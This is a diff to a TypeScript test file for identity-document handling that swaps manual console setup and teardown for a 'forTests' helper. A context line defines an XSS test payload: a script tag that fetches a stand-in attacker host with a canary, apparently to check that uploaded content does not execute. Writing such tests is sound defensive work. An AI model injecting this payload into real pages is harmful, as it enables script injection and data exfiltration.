@@ -3,23 +3,22 @@
  * opens them, and after their days nothing of them is left (spec/identity#documents).
  */
 import { randomBytes } from "node:crypto";
+import { forTests } from "@turnpike/net/testing/for-tests.ts";
 import { sql } from "kysely";
 import { sized } from "@turnpike/net/testing/full.ts";
 import { documentPartBytes } from "@turnpike/rules/identity-document.ts";
-import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import { type Person, startTestConsole, type TestConsole } from "../../across/console/testing.ts";
+import { beforeAll, describe, expect, it } from "vitest";
+import { type Person, startTestConsole } from "../../across/console/testing.ts";
 import { operate } from "../../across/operator/testing.ts";
 
 const CANARY = "CANARY-7f3d9a52";
 const SCRIPT = `<script>fetch("https://evil.example/${CANARY}")</script>`;
 
-let api: TestConsole;
+const api = forTests(startTestConsole);
 let support: Person;
 beforeAll(async () => {
-  api = await startTestConsole();
   support = await api.person("support");
 });
-afterAll(() => api?.stop());
 
 interface Answer {
   code: number;
